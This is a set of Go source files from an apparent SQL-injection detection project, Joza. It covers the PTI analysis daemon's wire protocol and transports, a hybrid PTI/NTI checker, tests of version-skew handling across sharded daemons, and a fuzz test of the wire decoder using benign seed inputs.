	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig(), WithSkewPolicy(SkewRefuseMixed))
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	qs := queriesForShards(t, sp)
	for _, q := range qs {
		if _, err := sp.Analyze(q); err != nil {
			t.Fatal(err)
		}
	}
	srv0.SetServing(testServing(v2))
	if _, err := sp.Analyze(qs[0]); err != nil {
		t.Fatal(err)
	}
	if _, err := sp.Analyze(qs[1]); !errors.Is(err, ErrVersionSkew) {
		t.Fatalf("stale shard check: got %v, want ErrVersionSkew", err)
	}
	// Batches refuse exactly the stale items.
	results, err := sp.AnalyzeBatch(context.Background(), qs)
	if err != nil {
		t.Fatal(err)
	}
	if results[0].Err != nil || results[0].Reply == nil {
		t.Fatalf("current shard's batch item refused: %+v", results[0])
	}
	if !errors.Is(results[1].Err, ErrVersionSkew) {
		t.Fatalf("stale shard's batch item: got %v, want ErrVersionSkew", results[1].Err)
	}
}

// TestSkewRefusalEndsOnConvergence: once the lagging shard converges on
// the current version, SkewRefuseMixed serves its checks again with no
// operator action on the client side.
func TestSkewRefusalEndsOnConvergence(t *testing.T) {
	const v1, v2 = "aaaaaaaaaaaaaaaa", "4444444444444444"
	addr0, srv0, _ := startShardServer(t, WithServing(testServing(v1)))
	addr1, srv1, _ := startShardServer(t, WithServing(testServing(v1)))
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig(), WithSkewPolicy(SkewRefuseMixed))
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	qs := queriesForShards(t, sp)
	for _, q := range qs {
		if _, err := sp.Analyze(q); err != nil {
			t.Fatal(err)
		}
	}
	srv0.SetServing(testServing(v2))
	if _, err := sp.Analyze(qs[0]); err != nil {
		t.Fatal(err)
	}
	if _, err := sp.Analyze(qs[1]); !errors.Is(err, ErrVersionSkew) {
		t.Fatalf("want refusal while lagging, got %v", err)
	}
	srv1.SetServing(testServing(v2))
	reply, err := sp.Analyze(qs[1])
	if err != nil {
		t.Fatalf("converged shard still refused: %v", err)
	}
	if reply.Version != v2 {
		t.Fatalf("converged reply version = %q", reply.Version)
	}
	if got := sp.ShardStats()[1].StaleServed; got != 1 {
		t.Fatalf("StaleServed = %d, want exactly the one pre-convergence refusal", got)
	}
}

// TestFleetStatsFoldVersions: the merged fleet snapshot reports the
// single version when the fleet agrees and the "mixed" sentinel when it
// does not, with per-shard versions in Shards either way. A stats fetch
// alone (no checks) is enough to observe skew.
func TestFleetStatsFoldVersions(t *testing.T) {
	const v1, v2 = "aaaaaaaaaaaaaaaa", "5555555555555555"
	addr0, srv0, _ := startShardServer(t, WithServing(testServing(v1)))
	addr1, _, _ := startShardServer(t, WithServing(testServing(v1)))
	sp, err := DialShardedPool([]string{addr0, addr1}, fastShardConfig())
	if err != nil {
		t.Fatal(err)
	}
	defer sp.Close()
	st, err := sp.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if st.SnapshotVersion != v1 {
		t.Fatalf("agreed fleet SnapshotVersion = %q, want %q", st.SnapshotVersion, v1)
	}
	srv0.SetServing(testServing(v2))
	st, err = sp.Stats()
	if err != nil {
		t.Fatal(err)
	}
	if st.SnapshotVersion != "mixed" {
		t.Fatalf("skewed fleet SnapshotVersion = %q, want mixed", st.SnapshotVersion)
	}
	vers := map[string]string{}
	for _, sh := range st.Shards {
		vers[sh.Shard] = sh.Version
	}
	if vers[addr0] != v2 || vers[addr1] != v1 {
		t.Fatalf("per-shard versions = %v", vers)
	}
}
