// Package daemon implements the PTI daemon of the Joza architecture
// (Section IV): a separate process that loads the fragment set, parses
// intercepted queries, runs the PTI analysis (with its caches), and
// returns both the verdict and the parsed critical-token stream so the
// in-application NTI component can reuse it.
//
// Two transports are provided, mirroring the paper's deployment study:
//
//   - Remote: newline-delimited JSON over a net.Conn (named/anonymous
//     pipes in the paper; TCP or in-memory pipes here). This is the
//     easy-to-deploy user-level daemon.
//   - Direct: an in-process call with no serialization, the stand-in for
//     the "PHP extension" deployment whose overhead the paper estimates
//     by excluding spawn and communication time.
package daemon

import (
	"bufio"
	"encoding/json"
	"fmt"
	"net"
	"sync"
	"sync/atomic"
	"time"

	"joza/internal/core"
	"joza/internal/metrics"
	"joza/internal/nti"
	"joza/internal/pti"
	"joza/internal/sqltoken"
)

// AnalysisReply is the daemon's answer for one query.
type AnalysisReply struct {
	// Attack is the PTI verdict.
	Attack bool `json:"attack"`
	// Reasons explains the verdict (uncovered critical tokens).
	Reasons []ReasonJSON `json:"reasons,omitempty"`
	// Tokens is the full token stream of the query; the application-side
	// NTI component reuses it instead of re-lexing.
	Tokens []TokenJSON `json:"tokens"`
}

// ReasonJSON is the wire form of core.Reason.
type ReasonJSON struct {
	Token  TokenJSON `json:"token"`
	Detail string    `json:"detail"`
}

// TokenJSON is the wire form of sqltoken.Token.
type TokenJSON struct {
	Kind  int    `json:"kind"`
	Text  string `json:"text"`
	Start int    `json:"start"`
	End   int    `json:"end"`
}

func toTokenJSON(t sqltoken.Token) TokenJSON {
	return TokenJSON{Kind: int(t.Kind), Text: t.Text, Start: t.Start, End: t.End}
}

func fromTokenJSON(t TokenJSON) sqltoken.Token {
	return sqltoken.Token{Kind: sqltoken.Kind(t.Kind), Text: t.Text, Start: t.Start, End: t.End}
}

// TokenStream converts the reply's token stream back to lexer tokens so
// the application-side NTI component can reuse the daemon's parse.
func (r *AnalysisReply) TokenStream() []sqltoken.Token {
	out := make([]sqltoken.Token, len(r.Tokens))
	for i, t := range r.Tokens {
		out[i] = fromTokenJSON(t)
	}
	return out
}

// Result converts the reply into a core PTI result.
func (r *AnalysisReply) Result() core.Result {
	res := core.Result{Analyzer: core.AnalyzerPTI, Attack: r.Attack}
	for _, rj := range r.Reasons {
		res.Reasons = append(res.Reasons, core.Reason{
			Token:  fromTokenJSON(rj.Token),
			Detail: rj.Detail,
		})
	}
	return res
}

// analyze runs the shared daemon-side analysis for both transports.
func analyze(analyzer *pti.Cached, query string) *AnalysisReply {
	toks := sqltoken.Lex(query)
	res := analyzer.Analyze(query, toks)
	reply := &AnalysisReply{Attack: res.Attack}
	reply.Tokens = make([]TokenJSON, len(toks))
	for i, t := range toks {
		reply.Tokens[i] = toTokenJSON(t)
	}
	for _, reason := range res.Reasons {
		reply.Reasons = append(reply.Reasons, ReasonJSON{
			Token:  toTokenJSON(reason.Token),
			Detail: reason.Detail,
		})
	}
	return reply
}

// Transport is the application's view of the PTI analysis, independent of
// deployment.
type Transport interface {
	// Analyze returns the PTI reply for query.
	Analyze(query string) (*AnalysisReply, error)
	// Close releases the transport.
	Close() error
}

// Direct is the in-process transport (the "PHP extension" estimate).
type Direct struct {
	analyzer *pti.Cached
}

var _ Transport = (*Direct)(nil)

// NewDirect returns a Direct transport over analyzer.
func NewDirect(analyzer *pti.Cached) *Direct {
	return &Direct{analyzer: analyzer}
}

// Analyze implements Transport.
func (d *Direct) Analyze(query string) (*AnalysisReply, error) {
	return analyze(d.analyzer, query), nil
}

// Close implements Transport.
func (d *Direct) Close() error { return nil }

// StatsReply is the payload of the protocol's "stats" verb: the same
// snapshot type joza.Guard.Metrics returns, so operators read one shape
// whether they ask the library or the daemon.
type StatsReply = metrics.Snapshot

// wire framing shared by client and server. Op selects the verb: empty or
// "analyze" analyzes Query; "stats" returns the daemon's counters (old
// clients that never set op keep working unchanged).
type wireRequest struct {
	Op    string `json:"op,omitempty"`
	Query string `json:"query,omitempty"`
}

type wireResponse struct {
	Reply *AnalysisReply `json:"reply,omitempty"`
	Stats *StatsReply    `json:"stats,omitempty"`
	Err   string         `json:"error,omitempty"`
}

// Server serves the daemon protocol over a listener. Multiple server
// instances can share one analyzer (the paper's multiple coexisting
// daemons).
type Server struct {
	analyzer  atomic.Pointer[pti.Cached]
	collector *metrics.Collector

	mu     sync.Mutex
	ln     net.Listener
	conns  map[net.Conn]struct{}
	wg     sync.WaitGroup
	closed bool
}

// NewServer returns a daemon server over analyzer.
func NewServer(analyzer *pti.Cached) *Server {
	s := &Server{
		conns:     make(map[net.Conn]struct{}),
		collector: metrics.NewCollector(),
	}
	s.analyzer.Store(analyzer)
	return s
}

// Stats returns the daemon's counter snapshot: checks and attacks served
// (PTI only — NTI runs application-side), the analyzer's cache totals and
// per-shard activity, and analysis latency quantiles. Counters survive
// SetAnalyzer swaps; cache fields reflect the current analyzer.
func (s *Server) Stats() StatsReply {
	snap := s.collector.Snapshot()
	analyzer := s.analyzer.Load()
	st := analyzer.Stats()
	snap.CacheQueryHits = st.QueryHits
	snap.CacheStructureHits = st.StructureHits
	snap.CacheMisses = st.Misses
	queryShards, _ := analyzer.ShardStats()
	if len(queryShards) > 0 {
		snap.CacheShards = make([]metrics.CacheShard, len(queryShards))
		for i, sh := range queryShards {
			snap.CacheShards[i] = metrics.CacheShard{
				Hits: sh.Hits, Misses: sh.Misses, Entries: sh.Entries,
			}
		}
	}
	return snap
}

// SetAnalyzer atomically swaps the analyzer; in-flight requests finish on
// the old one. The preprocessing component uses this after the installer
// detects new or modified application files (Section IV-B).
func (s *Server) SetAnalyzer(analyzer *pti.Cached) {
	s.analyzer.Store(analyzer)
}

// Serve accepts connections until Close. Always returns a non-nil error.
func (s *Server) Serve(ln net.Listener) error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return net.ErrClosed
	}
	s.ln = ln
	s.mu.Unlock()
	for {
		conn, err := ln.Accept()
		if err != nil {
			return err
		}
		if !s.track(conn) {
			_ = conn.Close()
			return net.ErrClosed
		}
		go func() {
			defer s.wg.Done()
			s.ServeConn(conn)
			s.mu.Lock()
			delete(s.conns, conn)
			s.mu.Unlock()
		}()
	}
}

func (s *Server) track(conn net.Conn) bool {
	s.mu.Lock()
	defer s.mu.Unlock()
	if s.closed {
		return false
	}
	s.conns[conn] = struct{}{}
	s.wg.Add(1)
	return true
}

// ServeConn serves a single established connection until it closes. It is
// exported so a daemon can be run over a pre-connected pipe (the paper's
// anonymous-pipe, one-request lifetime mode).
func (s *Server) ServeConn(conn net.Conn) {
	defer func() { _ = conn.Close() }()
	dec := json.NewDecoder(bufio.NewReader(conn))
	enc := json.NewEncoder(conn)
	for {
		var req wireRequest
		if err := dec.Decode(&req); err != nil {
			return
		}
		var resp wireResponse
		switch req.Op {
		case "", "analyze":
			start := time.Now()
			reply := analyze(s.analyzer.Load(), req.Query)
			s.collector.RecordCheck(false, reply.Attack, time.Since(start))
			resp.Reply = reply
		case "stats":
			st := s.Stats()
			resp.Stats = &st
		default:
			resp.Err = fmt.Sprintf("unknown op %q", req.Op)
		}
		if err := enc.Encode(resp); err != nil {
			return
		}
	}
}

// Close stops the server and waits for in-flight connections.
func (s *Server) Close() error {
	s.mu.Lock()
	if s.closed {
		s.mu.Unlock()
		return nil
	}
	s.closed = true
	ln := s.ln
	for c := range s.conns {
		_ = c.Close()
	}
	s.mu.Unlock()
	var err error
	if ln != nil {
		err = ln.Close()
	}
	s.wg.Wait()
	return err
}

// Client is the Remote transport: it speaks the daemon protocol over a
// connection. Safe for concurrent use (requests are serialized).
type Client struct {
	mu   sync.Mutex
	conn net.Conn
	enc  *json.Encoder
	dec  *json.Decoder
}

var _ Transport = (*Client)(nil)

// Dial connects to a daemon at a TCP address.
func Dial(addr string) (*Client, error) {
	conn, err := net.Dial("tcp", addr)
	if err != nil {
		return nil, fmt.Errorf("daemon dial: %w", err)
	}
	return NewClient(conn), nil
}

// NewClient wraps an established connection (e.g. one side of net.Pipe,
// the analogue of the paper's anonymous pipes).
func NewClient(conn net.Conn) *Client {
	return &Client{
		conn: conn,
		enc:  json.NewEncoder(conn),
		dec:  json.NewDecoder(bufio.NewReader(conn)),
	}
}

// Analyze implements Transport.
func (c *Client) Analyze(query string) (*AnalysisReply, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if err := c.enc.Encode(wireRequest{Query: query}); err != nil {
		return nil, fmt.Errorf("daemon send: %w", err)
	}
	var resp wireResponse
	if err := c.dec.Decode(&resp); err != nil {
		return nil, fmt.Errorf("daemon recv: %w", err)
	}
	if resp.Err != "" {
		return nil, fmt.Errorf("daemon: %s", resp.Err)
	}
	return resp.Reply, nil
}

// Stats requests the daemon's counter snapshot via the "stats" verb.
func (c *Client) Stats() (*StatsReply, error) {
	c.mu.Lock()
	defer c.mu.Unlock()
	if err := c.enc.Encode(wireRequest{Op: "stats"}); err != nil {
		return nil, fmt.Errorf("daemon send: %w", err)
	}
	var resp wireResponse
	if err := c.dec.Decode(&resp); err != nil {
		return nil, fmt.Errorf("daemon recv: %w", err)
	}
	if resp.Err != "" {
		return nil, fmt.Errorf("daemon: %s", resp.Err)
	}
	if resp.Stats == nil {
		return nil, fmt.Errorf("daemon: stats verb returned no payload")
	}
	return resp.Stats, nil
}

// Close implements Transport.
func (c *Client) Close() error { return c.conn.Close() }

// SpawnPipe starts a daemon over an in-memory pipe — the analogue of
// launching the daemon on demand and talking over anonymous pipes. The
// returned stop function shuts the daemon goroutine down.
func SpawnPipe(analyzer *pti.Cached) (client *Client, stop func()) {
	clientSide, serverSide := net.Pipe()
	srv := NewServer(analyzer)
	done := make(chan struct{})
	go func() {
		defer close(done)
		srv.ServeConn(serverSide)
	}()
	c := NewClient(clientSide)
	return c, func() {
		_ = c.Close()
		_ = serverSide.Close()
		<-done
	}
}

// HybridClient composes the deployed pieces exactly as Figure 5 shows:
// queries go to the PTI daemon first; the returned token stream feeds the
// in-application NTI analysis; the query is safe iff both agree.
type HybridClient struct {
	transport Transport
	nti       *nti.Analyzer
	policy    core.Policy
}

// NewHybridClient builds the application-side hybrid over a transport.
// ntiAnalyzer may be nil to disable NTI (PTI-only deployments).
func NewHybridClient(transport Transport, ntiAnalyzer *nti.Analyzer, policy core.Policy) *HybridClient {
	return &HybridClient{transport: transport, nti: ntiAnalyzer, policy: policy}
}

// Check returns the hybrid verdict for query given the request's inputs.
func (h *HybridClient) Check(query string, inputs []nti.Input) (core.Verdict, error) {
	reply, err := h.transport.Analyze(query)
	if err != nil {
		return core.Verdict{}, fmt.Errorf("pti analysis: %w", err)
	}
	v := core.Verdict{Query: query, PTI: reply.Result()}
	if h.nti != nil {
		v.NTI = h.nti.Analyze(query, reply.TokenStream(), inputs)
	} else {
		v.NTI = core.Result{Analyzer: core.AnalyzerNTI}
	}
	v.Attack = v.NTI.Attack || v.PTI.Attack
	return v, nil
}

// Authorize returns nil for safe queries and an *core.AttackError
// otherwise.
func (h *HybridClient) Authorize(query string, inputs []nti.Input) error {
	v, err := h.Check(query, inputs)
	if err != nil {
		return err
	}
	if !v.Attack {
		return nil
	}
	return &core.AttackError{Verdict: v, Policy: h.policy}
}

// Close releases the underlying transport.
func (h *HybridClient) Close() error { return h.transport.Close() }
