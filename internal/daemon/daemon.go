// Package daemon implements the PTI daemon of the Joza architecture
// (Section IV): a separate process that loads the fragment set, parses
// intercepted queries, runs the PTI analysis (with its caches), and
// returns both the verdict and the parsed critical-token stream so the
// in-application NTI component can reuse it.
//
// Two transports are provided, mirroring the paper's deployment study:
//
//   - Remote: newline-delimited JSON over a net.Conn (named/anonymous
//     pipes in the paper; TCP or in-memory pipes here). This is the
//     easy-to-deploy user-level daemon. A single connection is a Client;
//     production deployments use a Pool, which multiplexes concurrent
//     requests over several connections, bounds each round trip with a
//     deadline, and replaces failed connections with jittered exponential
//     backoff.
//   - Direct: an in-process call with no serialization, the stand-in for
//     the "PHP extension" deployment whose overhead the paper estimates
//     by excluding spawn and communication time.
//
// HybridClient composes a transport with the in-application NTI analyzer
// and a degradation policy that decides what happens when the daemon is
// unreachable (fail-open: NTI-only; fail-closed: treat as attack).
package daemon

import (
	"context"
	"fmt"
	"time"

	"joza/internal/core"
	"joza/internal/metrics"
	"joza/internal/profile"
	"joza/internal/pti"
	"joza/internal/sqltoken"
	"joza/internal/trace"
)

// AnalysisReply is the daemon's answer for one query.
type AnalysisReply struct {
	// Attack is the PTI verdict.
	Attack bool `json:"attack"`
	// Reasons explains the verdict (uncovered critical tokens).
	Reasons []ReasonJSON `json:"reasons,omitempty"`
	// Tokens is the full token stream of the query; the application-side
	// NTI component reuses it instead of re-lexing.
	Tokens []TokenJSON `json:"tokens"`
	// Trace is the daemon-side decision trace, present when the daemon
	// sampled this check. A tracing HybridClient merges it into its own
	// span so one trace shows both sides of the wire.
	Trace *trace.Span `json:"trace,omitempty"`
	// Profile is the query-skeleton profile verdict, present when the
	// request carried a call site and the daemon has profiles (or a
	// learning recorder). It rides the analyze reply so the third stage
	// costs no extra round trip.
	Profile *ProfileReply `json:"profile,omitempty"`
	// Version is the content-derived version of the snapshot that served
	// this verdict. Absent means an unversioned daemon — old servers'
	// replies are byte-identical to the pre-version protocol, and clients
	// treat the empty version as "unknown", never as a mismatch.
	Version string `json:"version,omitempty"`
}

// ProfileReply is the daemon-side outcome of the query-skeleton profile
// stage for one (site, query) pair.
type ProfileReply struct {
	// Attack is set for an unseen skeleton — the site never issued this
	// query shape during training. Unknown sites are reported via Outcome
	// and left to the client's strictness policy.
	Attack bool `json:"attack,omitempty"`
	// Outcome is "learned", "seen", "unseen" or "site-unknown".
	Outcome  string `json:"outcome"`
	Site     string `json:"site,omitempty"`
	Skeleton string `json:"skeleton,omitempty"`
	Detail   string `json:"detail,omitempty"`
}

// ReasonJSON is the wire form of core.Reason.
type ReasonJSON struct {
	Token  TokenJSON `json:"token"`
	Detail string    `json:"detail"`
}

// TokenJSON is the wire form of sqltoken.Token.
type TokenJSON struct {
	Kind  int    `json:"kind"`
	Text  string `json:"text"`
	Start int    `json:"start"`
	End   int    `json:"end"`
}

func toTokenJSON(t sqltoken.Token) TokenJSON {
	return TokenJSON{Kind: int(t.Kind), Text: t.Text, Start: t.Start, End: t.End}
}

func fromTokenJSON(t TokenJSON) sqltoken.Token {
	return sqltoken.Token{Kind: sqltoken.Kind(t.Kind), Text: t.Text, Start: t.Start, End: t.End}
}

// TokenStream converts the reply's token stream back to lexer tokens so
// the application-side NTI component can reuse the daemon's parse.
func (r *AnalysisReply) TokenStream() []sqltoken.Token {
	out := make([]sqltoken.Token, len(r.Tokens))
	for i, t := range r.Tokens {
		out[i] = fromTokenJSON(t)
	}
	return out
}

// Result converts the reply into a core PTI result.
func (r *AnalysisReply) Result() core.Result {
	res := core.Result{Analyzer: core.AnalyzerPTI, Attack: r.Attack}
	for _, rj := range r.Reasons {
		res.Reasons = append(res.Reasons, core.Reason{
			Token:  fromTokenJSON(rj.Token),
			Detail: rj.Detail,
		})
	}
	return res
}

// analyze runs the shared daemon-side analysis for both transports.
func analyze(analyzer *pti.Cached, query string) *AnalysisReply {
	reply, _ := analyzeCtx(context.Background(), analyzer, query, nil)
	return reply
}

// analyzeCtx is the shared daemon-side analysis with decision tracing and
// cooperative cancellation. A non-nil span records the lex duration, the
// cache outcome, the fragment-cover duration and the per-token cover
// evidence; the daemon always lexes (it returns the token stream to the
// client), so the lex is timed here rather than lazily. ctx is checked
// before the lex and through the analyzer's checkpoints, so a request
// whose wire-propagated budget has expired fails with ctx's error instead
// of burning daemon time on an abandoned query.
func analyzeCtx(ctx context.Context, analyzer *pti.Cached, query string, span *trace.Span) (*AnalysisReply, error) {
	if ctx.Done() != nil {
		if err := ctx.Err(); err != nil {
			return nil, err
		}
	}
	var lexStart time.Time
	if span.Active() {
		lexStart = time.Now()
	}
	toks := analyzer.Dialect().Lex(query)
	if span.Active() {
		span.Lex(time.Since(lexStart))
	}
	res, _, err := analyzer.AnalyzeLazyCtx(ctx, query, toks, span)
	if err != nil {
		return nil, err
	}
	reply := &AnalysisReply{Attack: res.Attack}
	reply.Tokens = make([]TokenJSON, len(toks))
	for i, t := range toks {
		reply.Tokens[i] = toTokenJSON(t)
	}
	for _, reason := range res.Reasons {
		reply.Reasons = append(reply.Reasons, ReasonJSON{
			Token:  toTokenJSON(reason.Token),
			Detail: reason.Detail,
		})
	}
	return reply, nil
}

// siteTransport is the optional transport extension that carries a
// call-site identity with the analyze request, so the daemon can run the
// query-skeleton profile stage. Kept separate from Transport so existing
// third-party transports keep compiling; transports without it simply
// never produce profile verdicts.
type siteTransport interface {
	AnalyzeSiteContext(ctx context.Context, site, query string) (*AnalysisReply, error)
}

// profileReplyFor computes the profile verdict one of the daemon-side
// transports attaches to an analyze reply: learning mode records and
// reports "learned"; enforcement classifies the skeleton against the
// store. Returns nil when there is no site or no profile machinery at all.
func profileReplyFor(store *profile.Store, rec *profile.Recorder, site, query string) *ProfileReply {
	if site == "" || (store == nil && rec == nil) {
		return nil
	}
	if rec != nil {
		sk := rec.Record(site, query)
		return &ProfileReply{Outcome: "learned", Site: site, Skeleton: sk}
	}
	// Skeletons are only comparable when computed under the dialect the
	// store was trained with (the daemon front door verifies store and
	// analyzer agree at load time).
	sk := profile.SkeletonDialect(store.Dialect(), query)
	p := &ProfileReply{Site: site, Skeleton: sk}
	switch store.Lookup(site, sk) {
	case profile.SkeletonSeen:
		p.Outcome = "seen"
	case profile.SkeletonUnseen:
		p.Outcome = "unseen"
		p.Attack = true
		p.Detail = fmt.Sprintf("query skeleton never seen from call site %q during training: %s", site, sk)
	case profile.SiteUnknown:
		p.Outcome = "site-unknown"
	}
	return p
}

// Transport is the application's view of the PTI analysis, independent of
// deployment.
type Transport interface {
	// Analyze returns the PTI reply for query, without a deadline.
	Analyze(query string) (*AnalysisReply, error)
	// AnalyzeContext is Analyze bounded by ctx: a wire transport forwards
	// the remaining deadline budget in the request so the server honors
	// it, and a canceled ctx aborts the round trip with ctx's error.
	AnalyzeContext(ctx context.Context, query string) (*AnalysisReply, error)
	// Close releases the transport.
	Close() error
}

// Direct is the in-process transport (the "PHP extension" estimate).
type Direct struct {
	analyzer *pti.Cached
	profiles *profile.Store
	recorder *profile.Recorder
}

var _ Transport = (*Direct)(nil)
var _ siteTransport = (*Direct)(nil)

// NewDirect returns a Direct transport over analyzer.
func NewDirect(analyzer *pti.Cached) *Direct {
	return &Direct{analyzer: analyzer}
}

// SetProfiles installs the query-skeleton profile store consulted by
// AnalyzeSiteContext. Call before serving checks.
func (d *Direct) SetProfiles(st *profile.Store) { d.profiles = st }

// SetProfileRecorder puts the transport in profile learning mode.
func (d *Direct) SetProfileRecorder(r *profile.Recorder) { d.recorder = r }

// Analyze implements Transport.
func (d *Direct) Analyze(query string) (*AnalysisReply, error) {
	return analyze(d.analyzer, query), nil
}

// AnalyzeContext implements Transport: there is no wire to bound, so ctx
// only gates the in-process analysis.
func (d *Direct) AnalyzeContext(ctx context.Context, query string) (*AnalysisReply, error) {
	return analyzeCtx(ctx, d.analyzer, query, nil)
}

// AnalyzeSiteContext implements siteTransport: AnalyzeContext plus the
// query-skeleton profile verdict for site.
func (d *Direct) AnalyzeSiteContext(ctx context.Context, site, query string) (*AnalysisReply, error) {
	reply, err := analyzeCtx(ctx, d.analyzer, query, nil)
	if err != nil {
		return nil, err
	}
	reply.Profile = profileReplyFor(d.profiles, d.recorder, site, query)
	return reply, nil
}

// Close implements Transport.
func (d *Direct) Close() error { return nil }

// StatsReply is the payload of the protocol's "stats" verb: the same
// snapshot type joza.Guard.Metrics returns, so operators read one shape
// whether they ask the library or the daemon.
type StatsReply = metrics.Snapshot

// TracesReply is the payload of the protocol's "traces" verb: the daemon
// tracer's recent and notable rings, the same shape Guard.Traces returns.
type TracesReply = trace.Dump

// wire framing shared by client and server. Op selects the verb: empty or
// "analyze" analyzes Query; "batch" analyzes every item in Batch and
// replies with one response per item; "stats" returns the daemon's
// counters; "traces" returns the daemon's trace rings; "prepare",
// "commit" and "abort" drive the two-phase snapshot rollout (old clients
// that never set op keep working unchanged, and every new field is
// omitempty so a new client's single-request frames are byte-compatible
// with old servers).
type wireRequest struct {
	Op    string `json:"op,omitempty"`
	Query string `json:"query,omitempty"`
	// TimeoutMs propagates the client's remaining deadline budget: the
	// server bounds the analysis with a context of this duration, so work
	// the client will no longer wait for is abandoned server-side too.
	// Zero (and requests from older clients) means no server-side bound; a
	// negative value is an already-expired budget and fails immediately.
	// The server clamps absurd budgets to a sane ceiling before deriving a
	// deadline, so a hostile value cannot overflow into an expired context.
	TimeoutMs int64 `json:"timeout_ms,omitempty"`
	// Batch carries the items of a "batch" op: each item is an analyze
	// request in its own right (Query plus optional TimeoutMs, honored
	// per item server-side). Item failures ride back per item on a healthy
	// stream; only framing faults break the connection.
	Batch []wireRequest `json:"batch,omitempty"`
	// Site identifies the database call site issuing Query, keying the
	// query-skeleton profile lookup server-side. Empty (and requests from
	// older clients) skips the profile stage; old servers ignore the field.
	Site string `json:"site,omitempty"`
	// Dialect names the SQL dialect the client lexes under ("mysql",
	// "postgres", "sqlite"). Empty (and requests from older clients) means
	// MySQL, the protocol's original implicit dialect; old servers ignore
	// the field. The server refuses a request whose dialect is unknown or
	// differs from its analyzer's — boundary bytes mean different things
	// under different dialects, so a cross-dialect verdict would be wrong
	// rather than approximate. The refusal rides the healthy stream (per
	// item inside a batch), like any other request-level failure.
	Dialect string `json:"dialect,omitempty"`
	// Version is a snapshot-version precondition. On analyze/batch it pins
	// the request to a policy generation: a server whose serving version
	// differs (including garbage or unknown values) refuses the request on
	// the healthy stream — per item inside a batch — instead of answering
	// from the wrong generation. On "commit" it pins which staged snapshot
	// may swap in. Empty (and requests from older clients) means
	// unpinned; old servers ignore the field, so versionless traffic
	// interops byte-identically in both directions.
	Version string `json:"version,omitempty"`
}

// RolloutReply answers the two-phase rollout verbs. State is "staged"
// (prepare loaded and self-tested a snapshot without swapping it in),
// "committed" (the staged snapshot now serves) or "aborted" (the staged
// snapshot was discarded; serving state untouched). Version identifies the
// snapshot the verb acted on.
type RolloutReply struct {
	State   string `json:"state"`
	Version string `json:"version,omitempty"`
}

// wireDialect is the wire spelling of a dialect: empty for MySQL — absent
// means MySQL on both ends, so a default-dialect client's frames stay
// byte-identical to the pre-dialect protocol and old servers keep working
// — and the dialect name otherwise.
func wireDialect(d sqltoken.Dialect) string {
	if d == sqltoken.MySQL {
		return ""
	}
	return d.String()
}

type wireResponse struct {
	Reply  *AnalysisReply `json:"reply,omitempty"`
	Stats  *StatsReply    `json:"stats,omitempty"`
	Traces *TracesReply   `json:"traces,omitempty"`
	// Batch answers a "batch" request with exactly one response per item,
	// in item order. A per-item failure sets that item's Err and leaves
	// its siblings intact.
	Batch []wireResponse `json:"batch,omitempty"`
	// Rollout answers the "prepare", "commit" and "abort" verbs.
	Rollout *RolloutReply `json:"rollout,omitempty"`
	Err     string        `json:"error,omitempty"`
}

// BatchResult is the client-side outcome of one item of a batch: either a
// reply or that item's error from the healthy stream. A transport failure
// fails the whole batch instead, through the returned error of
// AnalyzeBatch.
type BatchResult struct {
	Reply *AnalysisReply
	Err   error
}
