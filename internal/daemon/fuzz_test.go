package daemon

import (
	"io"
	"net"
	"testing"
	"time"
)

// FuzzServerWire throws arbitrary bytes at the daemon's wire decoder: no
// input may panic the server or wedge the connection handler. Valid
// requests embedded in the garbage are answered; everything else ends the
// connection cleanly.
func FuzzServerWire(f *testing.F) {
	f.Add([]byte("{\"op\":\"analyze\",\"query\":\"SELECT 1\"}\n"))
	f.Add([]byte("{\"query\":\"SELECT * FROM records WHERE ID=5 LIMIT 5\"}\n{\"op\":\"stats\"}\n"))
	f.Add([]byte("{\"op\":\"traces\"}\n"))
	f.Add([]byte("{\"op\":\"bogus\"}\n{\"query\":\"x\",\"timeout_ms\":-1}\n"))
	f.Add([]byte("{\"query\":"))
	f.Add([]byte{0xff, 0xfe, '{', '}', '\n'})
	// Version-bearing frames: an unknown or garbage version pin must come
	// back as a refusal on the healthy stream, and the rollout verbs must
	// answer (or refuse) without desyncing the connection — the follow-up
	// frames on the same line prove the stream still parses.
	f.Add([]byte("{\"op\":\"analyze\",\"query\":\"SELECT 1\",\"version\":\"deadbeefdeadbeef\"}\n{\"query\":\"SELECT 1\"}\n"))
	f.Add([]byte("{\"op\":\"prepare\"}\n{\"op\":\"commit\",\"version\":\"nope\"}\n{\"op\":\"abort\"}\n{\"op\":\"stats\"}\n"))
	f.Add([]byte("{\"op\":\"batch\",\"version\":\"\\u0000\\ufffdgarbage\",\"batch\":[{\"query\":\"SELECT 1\"},{\"query\":\"SELECT 1\",\"version\":\"zzz\"}]}\n{\"op\":\"traces\"}\n"))
	f.Add([]byte("{\"op\":\"commit\",\"version\":\"aaaaaaaaaaaaaaaa\"}\n{\"op\":\"abort\"}\n{\"query\":\"SELECT 1\"}\n"))
	analyzer := newAnalyzer()
	f.Fuzz(func(t *testing.T, data []byte) {
		srv := NewServer(analyzer, WithMaxRequestBytes(1<<16))
		clientSide, serverSide := net.Pipe()
		done := make(chan struct{})
		go func() {
			defer close(done)
			srv.ServeConn(serverSide)
		}()
		// Drain replies so the synchronous pipe never blocks the server's
		// encoder.
		go func() { _, _ = io.Copy(io.Discard, clientSide) }()
		_ = clientSide.SetWriteDeadline(time.Now().Add(2 * time.Second))
		_, _ = clientSide.Write(data)
		_ = clientSide.Close()
		select {
		case <-done:
		case <-time.After(5 * time.Second):
			t.Fatal("connection handler wedged on fuzz input")
		}
	})
}
