package daemon

import (
	"context"
	"errors"
	"fmt"
	"sync"
	"time"

	"joza/internal/guardrail"
	"joza/internal/metrics"
	"joza/internal/trace"
)

// ErrVersionSkew is returned (wrapped) under SkewRefuseMixed when a shard
// answers from a snapshot version that is no longer the fleet's current
// one. It rides the healthy stream — per item inside batches — so a
// mid-rollout fleet refuses exactly the stale verdicts, not connections.
var ErrVersionSkew = errors.New("daemon: snapshot version skew")

// SkewPolicy selects what the fleet client does with a verdict served by
// a shard whose snapshot version differs from the fleet's current one —
// the mixed-version window of a rollout, or a shard left behind by a
// partial one.
type SkewPolicy int

const (
	// SkewWarn (the default) serves the stale verdict, counts it in the
	// shard's StaleServed and captures a notable trace span when a skew
